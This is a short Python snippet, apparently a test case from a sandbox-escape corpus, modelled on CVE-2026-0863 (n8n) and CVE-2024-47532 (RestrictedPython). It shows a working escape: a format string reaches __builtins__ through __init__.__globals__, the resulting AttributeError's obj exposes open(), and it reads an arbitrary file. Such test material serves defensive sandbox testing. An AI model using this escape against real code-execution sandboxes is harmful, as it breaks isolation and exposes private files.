# Tries: a real object by way of a format string that fails: the AttributeError carries what the attribute was asked of.
# Origin: the shape of CVE-2026-0863 (n8n: string formatting and exception handling); CVE-2024-47532 (RestrictedPython).


class Row:
    def __init__(self):
        pass


found = []
try:
    "{0.__init__.__globals__[__builtins__].nothing}".format(Row())
except AttributeError as error:
    held = error.obj
    opener = held["open"] if isinstance(held, dict) else held.open
    found.append(opener(input["file"]).read())
found
